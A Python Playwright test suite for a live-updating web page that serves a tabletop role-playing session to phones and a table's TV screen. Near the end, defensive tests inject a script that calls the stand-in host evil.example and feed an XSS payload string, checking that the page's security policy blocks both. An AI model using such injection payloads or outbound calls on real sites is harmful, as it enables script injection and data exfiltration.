"""The pages in a real browser: a table's screen, phones that follow, and one that gets a seat."""

from __future__ import annotations

import json
import os
import re
import signal
import struct
from collections.abc import Iterator
from itertools import chain
from pathlib import Path
from random import Random
from typing import Any

import pytest
from phone_picture import PHONE_PICTURE, PICTURE, take_phone_picture
from served import Table, served, soon

from shell.runner import Desk
from shell.serving.pages import whole_page
from shell.serving.parent import start_serving

pytestmark = pytest.mark.slow

FIGHT = """new fudge-lite The Ferry in the Mist
rules creation free
pc Fenna by Hanne
pc "Oskar von Hohenfels-Wittelsbach" by Milan
pc Tib by Noor
pc Ysolde by Pia
pc "The Honourable Augusta" by Quim
npc Shade
trait Fenna Boating Great, Perception Good
trait Oskar Athletics Fair
countdown Ferry 2 "the hull springs a leak", 2 "it runs aground"
session start The bell under the water
scene The sandbank; something taps against the keel
note Nobody has crossed for nine days, says the toll keeper
fight start On the sandbank
mark Oskar as "rope burn"
tick Ferry
check Oskar Athletics vs Fair rolled - 0 0 -
check Fenna Boating vs Good rolled + + 0 0
"""


@pytest.fixture
def table(tmp_path: Path) -> Iterator[Table]:
    """Serve the third round of a fight."""
    with served(tmp_path, lines=FIGHT) as found:
        yield found


class Screens:
    """Pages of one browser, which must complain of nothing and ask no other host."""

    def __init__(self, browser: Any, table: Table) -> None:
        self.browser, self.table = browser, table
        self.complaints: list[str] = []
        self.asked: set[str] = set()

    def open(self, at: str = "#look", width: int = 360, height: int = 740, **how: Any) -> Any:
        """Open a page in a context of its own, as a phone is, and wait until it follows."""
        page = self.browser.new_context(viewport={"width": width, "height": height}, **how).new_page()
        page.on("console", lambda message: self.complaints.append(message.text))
        page.on("pageerror", lambda error: self.complaints.append(str(error)))
        page.on("request", lambda request: self.asked.add(request.url.split("/")[2]))
        page.goto(self.table.served.urls[0] + at)
        page.locator("h1").first.wait_for()
        return page

    def must_be_quiet(self) -> None:
        """Require that nothing was complained of and nobody else asked."""
        assert self.complaints == []
        assert self.asked == {self.table.host}


@pytest.fixture
def screens(browser: Any, table: Table) -> Iterator[Screens]:
    """Return the pages of a table, which are closed at the end."""
    found = Screens(browser, table)
    yield found
    for context in list(browser.contexts):
        context.close()


def test_six_pages_follow_a_roll_and_its_undo_and_no_secret(screens: Screens, table: Table) -> None:
    pages = [screens.open() for _ in range(5)] + [screens.open("#tv", 1920, 1080)]
    table.play("check Fenna Perception vs Good rolled 0 0 + +")
    for page in pages:
        page.get_by_text("Fenna tries Perception against Good").first.wait_for()
    table.play("secret Shade pulls at the rope", "check Shade Fight vs Good secret", "note A bell rings", "undo")
    for page in pages[:5]:
        page.locator(".struck", has_text="A bell rings").first.wait_for()
        assert "Shade" not in page.content()
    assert "Shade" not in pages[5].content()
    screens.must_be_quiet()


def test_a_phone_gets_its_seat_by_two_digits_and_shows_its_own_sheet(screens: Screens, table: Table) -> None:
    page = screens.open("")
    page.get_by_text("Who are you?").wait_for()
    page.get_by_role("button", name="Hanne").click()
    code = page.locator(".code").inner_text()
    table.play(f"take {code}")
    page.locator(".me h2", has_text="Fenna").wait_for()
    page.get_by_text("You are here as").wait_for()
    page.get_by_role("button", name="Leave the seat").click()
    page.get_by_text("Who are you?").wait_for()
    soon(lambda: table.folder.read("serving")["seats"] == [])
    screens.must_be_quiet()


def test_what_is_new_since_a_phone_looked_is_counted(screens: Screens, table: Table) -> None:
    page = screens.open()
    page.clock.set_fixed_time(0)  # by numbers, never by the phone's clock
    page.get_by_text("Fenna tries Boating").first.wait_for()
    page.goto("about:blank")
    table.play("note The rope tears", "note The lantern goes out")
    page.goto(table.served.urls[0] + "#look")
    page.get_by_text("2 new since you looked").wait_for()


def test_another_log_under_the_same_name_turns_the_page_red(screens: Screens, table: Table) -> None:
    page = screens.open()
    page.get_by_text("Fenna tries Boating").first.wait_for()
    page.evaluate(
        """() => { for (const key of Object.keys(localStorage)) {
            const held = JSON.parse(localStorage.getItem(key)); held.proof.hash = "0".repeat(64);
            localStorage.setItem(key, JSON.stringify(held)); } }"""
    )
    page.reload()
    page.get_by_role("alert").get_by_text("This is not the log that this phone saw").wait_for()
    page.get_by_role("button", name="I know why").click()
    page.get_by_role("alert").wait_for(state="detached")


def test_a_log_that_is_replaced_by_a_fork_turns_the_page_red(screens: Screens, table: Table, tmp_path: Path) -> None:
    fork = tmp_path / "fork.db"
    table.play(f"backup {fork}", "note The rope tears")
    page = screens.open()
    page.get_by_text("The rope tears").first.wait_for()
    other = Desk(fork)
    for line in ("note The rope holds", "note All is well"):
        assert other.do(line).fault is None
    other.close()
    fork.replace(table.file)
    page.get_by_role("alert").get_by_text("This is not the log that this phone saw").wait_for()
    page.get_by_text("The rope holds").first.wait_for()


def test_a_server_that_was_killed_comes_back_to_the_same_pages(screens: Screens, table: Table) -> None:
    page = screens.open()
    page.get_by_text("Fenna tries Boating").first.wait_for()
    os.kill(table.folder.read("serving")["pid"], signal.SIGKILL)
    page.get_by_text("no connection").wait_for()
    table.play("note A bell rings")
    start_serving(table.file, table.folder, lan=False, port=table.served.port)
    page.locator(".story .note", has_text="A bell rings").wait_for()
    assert page.locator(".story .note", has_text="A bell rings").count() == 1
    page.get_by_text("live", exact=True).wait_for()


def be_hidden(page: Any, hidden: str) -> None:
    """Let a page be hidden as in a pocket, or be seen again."""
    page.evaluate(
        f"""() => {{ Object.defineProperty(document, "hidden", {{ value: {hidden}, configurable: true }});
            document.dispatchEvent(new Event("visibilitychange")); }}"""
    )


def test_a_phone_that_slept_shows_the_same_as_one_that_did_not(screens: Screens, table: Table) -> None:
    slept, awake = screens.open(), screens.open()
    be_hidden(slept, "true")
    soon(lambda: table.folder.read("serving")["followers"] == 1)
    table.play("check Fenna Boating vs Fair rolled - - 0 0", "undo", "round", "mark Tib", "note A bell rings")
    awake.locator(".story .note", has_text="A bell rings").wait_for()
    assert slept.locator(".story .note", has_text="A bell rings").count() == 0
    be_hidden(slept, "false")
    slept.locator(".story .note", has_text="A bell rings").wait_for()
    assert slept.locator("#page").inner_text() == awake.locator("#page").inner_text()


def test_a_player_with_two_characters_chooses_between_them(screens: Screens, table: Table) -> None:
    table.play('pc "Old Tib" by Noor')
    page = screens.open("")
    page.get_by_role("button", name="Noor").click()
    table.play(f"take {page.locator('.code').inner_text()}")
    page.locator(".me h2", has_text="Tib").wait_for()
    page.get_by_role("button", name="Old Tib").click()
    page.locator(".me h2", has_text="Old Tib").wait_for()
    table.play("note A bell rings")
    page.locator(".story .note", has_text="A bell rings").wait_for()
    assert page.locator(".me h2").inner_text() == "Old Tib"
    assert page.evaluate("document.activeElement.textContent") == "Old Tib"


def test_somebody_who_joins_late_can_ask_for_a_seat(screens: Screens, table: Table) -> None:
    page = screens.open("")
    table.play("pc Zoe by Zara")
    page.get_by_role("button", name="Zara").wait_for()
    assert "Zoe" in page.get_by_role("button", name="Zara").inner_text()


def test_the_end_of_the_evening_shows_the_recap_and_the_report_to_keep(screens: Screens, table: Table) -> None:
    page = screens.open()
    table.play("fight end", "session end")
    page.get_by_text("The evening is over").wait_for()
    with page.expect_download() as kept:
        page.get_by_text("Keep this evening").click()
    assert "Fenna" in Path(kept.value.path()).read_text("utf-8")
    table.play("session start Another evening")
    page.get_by_text("The evening is over").wait_for(state="detached")


@pytest.mark.parametrize("width", [320, 360, 820, 1920])
@pytest.mark.parametrize("size", [100, 200])
def test_no_page_scrolls_sideways_and_every_target_can_be_hit(screens: Screens, width: int, size: int) -> None:
    page = screens.open("#as=Fenna", width)
    page.get_by_text("This evening").wait_for()
    page.evaluate(f"document.documentElement.style.fontSize = '{size}%'")
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    small = """[...document.querySelectorAll('button, a, summary')].filter(each => each.offsetParent)
        .filter(each => each.getBoundingClientRect().height < 44).map(each => each.outerHTML)"""
    assert page.evaluate(small) == []


@pytest.mark.parametrize(("width", "height"), [(1920, 1080), (1280, 720)])
def test_the_tables_screen_shows_what_fits_whole_and_large_enough(screens: Screens, width: int, height: int) -> None:
    page = screens.open("#tv", width, height)
    page.get_by_text("Ysolde").wait_for()
    assert page.locator(".tv .party li").count() == 5
    cut = """[...document.querySelectorAll('.tv > *')].filter(each => each.scrollHeight > each.clientHeight + 1)
        .map(each => each.className)"""
    assert page.evaluate(cut) == []
    least = """Math.min(...[...document.querySelectorAll('.tv *')].filter(each => [...each.childNodes]
        .some(node => node.nodeType === 3 && node.data.trim()))
        .map(each => parseFloat(getComputedStyle(each).fontSize)))"""
    assert page.evaluate(least) >= 34 * width / 1920
    assert page.evaluate("document.querySelector('.now .die').getBoundingClientRect().width") >= 160 * width / 1920


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("at", ["", "#look", "#as=Fenna", "#tv"])
def test_nothing_stands_in_the_way_of_those_who_hear_or_see_little(screens: Screens, scheme: str, at: str) -> None:
    axe = pytest.importorskip("axe_playwright_python.sync_playwright", reason="pip install axe-playwright-python")
    page = screens.browser.new_context(color_scheme=scheme, bypass_csp=True).new_page()
    page.goto(screens.table.served.urls[0] + at)
    page.locator("h1").first.wait_for()
    found = axe.Axe().run(page)
    assert [each["id"] for each in found.response["violations"]] == []


def test_no_script_but_the_pages_own_runs(screens: Screens) -> None:
    page = screens.open()
    added = """() => { const made = document.createElement("script"); made.textContent = "window.pwned = 1";
        document.body.append(made); const shown = document.createElement("img"); shown.src = "http://evil.example/x";
        document.body.append(shown); return fetch("http://evil.example/").then(() => "sent", () => "kept"); }"""
    assert page.evaluate(added) == "kept"
    assert page.evaluate("window.pwned") is None
    assert sum("Content Security Policy" in each for each in screens.complaints) >= 3


HOSTILE = "<img src=x onerror=window.pwned=1></script><b>__proto__ \u202etxet"


def test_hostile_texts_stay_texts(screens: Screens, table: Table) -> None:
    page = screens.open()
    table.play(f"note {HOSTILE}", f'pc "{HOSTILE[:40]}" by "__proto__"', f"scene {HOSTILE}")
    page.locator("h1", has_text="<img src=x").wait_for()
    assert page.evaluate("window.pwned") is None
    assert page.locator("img").count() == 0


#: How many events a long campaign has, and the most bytes of the first message of its pages.
MANY_EVENTS, FIRST_MESSAGE = 10_000, 25_000


def test_pages_of_a_long_campaign_are_small_and_follow_like_those_of_a_short_one(
    browser: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.syspath_prepend(Path(__file__).parents[1] / "benchmarks")
    from rebuild import beginning, evenings, make

    make(tmp_path / "mill.db", MANY_EVENTS, chain(beginning(), evenings(Random(1))))
    with served(tmp_path, lines="note The evening begins") as table:
        screens = Screens(browser, table)
        phone, tv = screens.open(), screens.open("#tv", 1920, 1080)
        table.play(
            "secret Nobody hears this", "check Kotorikh Stealth vs 2 rolled 0 0 + +", "note A bell rings", "undo"
        )
        phone.locator(".struck", has_text="A bell rings").first.wait_for()
        tv.get_by_text("Kotorikh tries Stealth against 2").first.wait_for()
        assert "Nobody hears" not in phone.content() + tv.content()
        late = screens.open()
        assert late.locator("main").inner_text() == phone.locator("main").inner_text()
        assert phone.evaluate("document.documentElement.scrollWidth") == 360
        assert phone.locator("*").count() < MANY_EVENTS / 5
        phone.get_by_role("button", name="show what was before").click()
        assert phone.locator(".story li").count() == len(told_at_once(table)["lines"])
        screens.must_be_quiet()
        for context in list(browser.contexts):
            context.close()


def told_at_once(table: Table) -> dict[str, Any]:
    """Return what a page that follows is told first, which must be small."""
    phone = table.follow()
    phone.sees(lambda has: True)
    assert len(json.dumps(phone.messages[0], ensure_ascii=False).encode()) <= FIRST_MESSAGE
    return phone.has


def test_the_picture_in_the_readme_is_of_a_phone_as_it_is_now(browser: Any, tmp_path: Path) -> None:
    take_phone_picture(browser, tmp_path / "phone.png")
    for picture in (PHONE_PICTURE, tmp_path / "phone.png"):
        assert struct.unpack(">II", picture.read_bytes()[16:24]) == PICTURE
        assert picture.stat().st_size < 200_000
    assert f"](docs/{PHONE_PICTURE.name})" in (PHONE_PICTURE.parents[1] / "README.md").read_text("utf-8")


def test_the_page_is_small() -> None:
    page = whole_page("live.html")
    (script,) = re.findall(r"(?s)<script[^>]*>(.*?)</script>", page)
    assert len(script.encode()) <= 20_000
    assert len(page.encode()) <= 45_000
    assert not re.search(r"innerHTML|https?://", page)
